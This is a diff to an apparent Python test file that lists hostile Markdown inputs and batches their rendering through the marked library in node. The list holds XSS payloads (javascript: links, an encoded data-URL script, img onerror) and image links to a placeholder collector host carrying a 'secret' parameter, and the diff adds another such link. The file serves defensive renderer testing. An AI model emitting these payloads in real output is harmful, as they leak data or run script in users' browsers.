@@ -61,6 +61,7 @@ HOSTILE_MARKDOWN = [
     "<javascript:alert(1)>",
     "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "![x](https://collector.example/?secret=abc)",
+    "!![x](https://collector.example/?secret=abc) \\!![y](https://collector.example/)",
     "![x][r]\n\n[r]: https://collector.example/?secret=abc",
     "\\\\<img src=x onerror=alert(1)>",
     "`\\`<img src=x onerror=alert(1)>`",
@@ -79,15 +80,26 @@ HOSTILE_MARKDOWN = [
 
 def render_with_marked(markdown: str) -> str:
     """The HTML marked makes of `markdown` with GitHub-flavoured Markdown on, as in JupyterLab."""
+    return render_all_with_marked([markdown])[0]
+
+
+def render_all_with_marked(texts: list[str]) -> list[str]:
+    """`render_with_marked` of each text, in one run of node."""
     script = (
         f"const {{ marked }} = require({json.dumps(str(MARKED))});"
         "let text = ''; process.stdin.on('data', (d) => (text += d));"
-        "process.stdin.on('end', () => process.stdout.write(marked.parse(text, { gfm: true })));"
+        "process.stdin.on('end', () => process.stdout.write(JSON.stringify("
+        "JSON.parse(text).map((t) => marked.parse(t, { gfm: true })))));"
     )
     done = subprocess.run(
-        ["node", "-e", script], input=markdown, capture_output=True, text=True, timeout=60, check=True
+        ["node", "-e", script],
+        input=json.dumps(texts),
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
     )
-    return done.stdout
+    return json.loads(done.stdout)
 
 
 class _Live(HTMLParser):
